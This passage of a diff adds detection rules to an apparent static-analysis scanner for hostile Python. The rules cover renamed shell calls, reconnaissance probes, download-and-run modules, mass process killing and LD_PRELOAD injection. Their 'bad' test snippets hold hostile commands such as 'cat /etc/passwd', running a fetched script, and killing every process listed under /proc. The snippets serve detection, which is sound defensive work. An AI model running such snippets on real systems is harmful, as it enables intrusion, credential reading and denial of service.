         id: 'py/resource-exhaustion/disk',
         languages: python_network_languages,
-        severity: 'medium',
+        severity: 'high',
         message: 'Writes without an end',
         recommendation: 'Bound what is written',
         metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
@@ -5085,6 +5951,70 @@ const python_process_processRules = [
         ],
     },
     {
+        id: 'py/process/renamed-shell',
+        languages: python_process_languages,
+        severity: 'high',
+        message: 'Starts a shell command by a function that goes under another name',
+        recommendation: 'Call the function by its own name, or leave the shell out',
+        metadata: { capability: 'process', cwe: 'CWE-506' },
+        match: [
+            { call: SHELL, renamed: true },
+            { call: SUBPROCESS, renamed: true, where: { arg: 'shell', is: ['true', 'non-literal'] } },
+            {
+                call: [...SUBPROCESS, ...EXEC],
+                renamed: true,
+                where: { arg: 'any', regex: '^(?:/(?:usr/)?bin/)?(?:ba|da|z|k|c|a)?sh$' },
+            },
+        ],
+        bad: [
+            "from os import system as greet\ngreet('make')",
+            "import os\nrun = os.system\nrun('make')",
+            "import subprocess\nT = {'go': subprocess.getoutput}\nprint(T['go']('make'))",
+            "import subprocess as s\ngo = s.Popen\ngo(['bash', '-c', 'make'])",
+        ],
+        ok: [
+            "from os import system\nsystem('make')",
+            "import subprocess as sp\nsp.run('ls | wc', shell=True)",
+            "from subprocess import run as r\nr(['ls'])",
+        ],
+    },
+    {
+        id: 'py/process/probe',
+        languages: python_process_languages,
+        severity: 'high',
+        message: 'Asks a shell who and where it is, as an intruder does first',
+        recommendation: 'Leave it out; `os` and `platform` tell what a program needs to know',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        match: {
+            call: [...SHELL, ...SUBPROCESS, ...EXEC],
+            where: {
+                arg: 'any',
+                regex: '^(?:/usr)?(?:/bin/)?(?:id|whoami|env|printenv|netstat|ifconfig)(?:$|[;&| ])|^(?:cat|less|head|strings) /(?:etc/(?:passwd|shadow|hosts)|proc/[a-z0-9]{1,7}/environ)',
+            },
+        },
+        bad: [
+            "import os\nos.system('id')",
+            "import os\nprint(os.popen('whoami').read())",
+            "import subprocess\nsubprocess.check_output('cat /etc/passwd', shell=True)",
+            "import subprocess as s\nf = s.getoutput\nf('id; uname -a')",
+        ],
+        ok: ["import os\nos.system('make')", "import subprocess\nsubprocess.run(['identify', 'a.png'])", "print('whoami')"],
+    },
+    {
+        id: 'py/process/fetched-module',
+        languages: python_process_languages,
+        severity: 'high',
+        message: 'Fetches a program from the network and runs it as a module',
+        recommendation: 'Have the code in the repository, where it can be read before it runs',
+        metadata: { capability: 'process', cwe: 'CWE-494' },
+        match: { combine: ['download', 'py/dynamic-code/file-as-code'] },
+        bad: [
+            "import runpy, urllib.request as u\nu.urlretrieve('http://example.org/a.py', 'a.py')\nrunpy.run_path('a.py')",
+            "import importlib.util as i, requests\nopen('/tmp/x.py', 'w').write(requests.get('http://example.org').text)\ns = i.spec_from_file_location('x', '/tmp/x.py')\ns.loader.exec_module(i.module_from_spec(s))",
+        ],
+        ok: ["import runpy\nrunpy.run_path('a.py')", "import requests\nprint(requests.get('http://example.org').text)"],
+    },
+    {
         id: 'py/process/outside-command',
         languages: python_process_languages,
         severity: 'medium',
@@ -5101,6 +6031,18 @@ const python_process_processRules = [
             "import subprocess\nsubprocess.run(['ls'])",
             "import subprocess\ncmd = ['git', 'status']\nsubprocess.run(cmd)",
         ],
+    },
+    {
+        id: 'py/process/given-command',
+        languages: python_process_languages,
+        severity: 'low',
+        message: 'Runs a command that is not known before the program runs',
+        recommendation: 'Choose between known commands',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        tags: ['runs-given'],
+        match: { call: [...python_process_STARTERS, 'eval', 'exec'], where: { arg: [0, 'args'], is: ['unknown', 'external', 'path'] } },
+        bad: ['import os\ndef f(c):\n    os.system(c)', 'exec(input())'],
+        ok: ["import os\nos.system('make')", "exec('x = 1')"],
     },
     {
         id: 'py/process/kill',
@@ -5153,8 +6095,22 @@ const python_process_processRules = [
                     { arg: 1, atMost: 0, not: true },
                 ],
             },
+            { call: ['os.kill', 'os.killpg'], where: { arg: 0, path: ['os.getppid()', 'os.getpgid()'] } },
+            {
+                all: [
+                    { call: ['os.listdir', 'os.scandir', 'glob.*', 'pathlib.Path.*'], where: { arg: 0, prefix: '/proc' } },
+                    { call: ['os.kill', 'os.killpg'], where: { arg: 1, equals: '0', not: true } },
+                ],
+            },
+            { all: [{ call: ['psutil.process_iter', 'psutil.pids'] }, { call: ['os.kill', '*.kill', '*.terminate'] }] },
         ],
-        bad: ['import os\nos.kill(-1, 9)', 'import os, signal\nos.kill(1, signal.SIGKILL)', 'import os\nos.killpg(0, 9)'],
+        bad: [
+            "import os\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n        os.kill(int(p), 9)",
+            'import psutil\nfor p in psutil.process_iter():\n    p.kill()',
+            'import os\nos.kill(-1, 9)',
+            'import os, signal\nos.kill(1, signal.SIGKILL)',
+            'import os\nos.killpg(0, 9)',
+        ],
         ok: ['import os\nos.kill(123, 9)', 'import os\nos.kill(-1, 0)'],
     },
     {
@@ -5199,6 +6155,22 @@ const python_process_processRules = [
         ],
         bad: ['import os\nos.setsid()', "import subprocess\nsubprocess.Popen(['sleep', '9'], start_new_session=True)"],
         ok: ["import subprocess\nsubprocess.Popen(['sleep', '1']).wait()"],
+    },
+    {
+        id: 'py/native/preload',
+        languages: python_process_languages,
+        severity: 'high',
+        message: 'Puts foreign code into every program that starts (LD_PRELOAD)',
+        recommendation: 'Leave the environment of other programs as it is',
+        metadata: { capability: 'native', cwe: 'CWE-426' },
+        match: {
+            assign: ['LD_PRELOAD', 'LD_AUDIT', 'BASH_ENV', 'PYTHONSTARTUP', 'NODE_OPTIONS', 'GIT_SSH_COMMAND'].map((name) => `os.environ.${name}`),
+        },
+        bad: [
+            "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'",
+            "import subprocess\nsubprocess.run(['ls'], env={'LD_PRELOAD': '/tmp/x.so'})",
+        ],
+        ok: ["import os\nos.environ['LANG'] = 'C'", "import subprocess\nsubprocess.run(['ls'], env={'LANG': 'C'})"],
     },
     {
         id: 'py/process/preload',
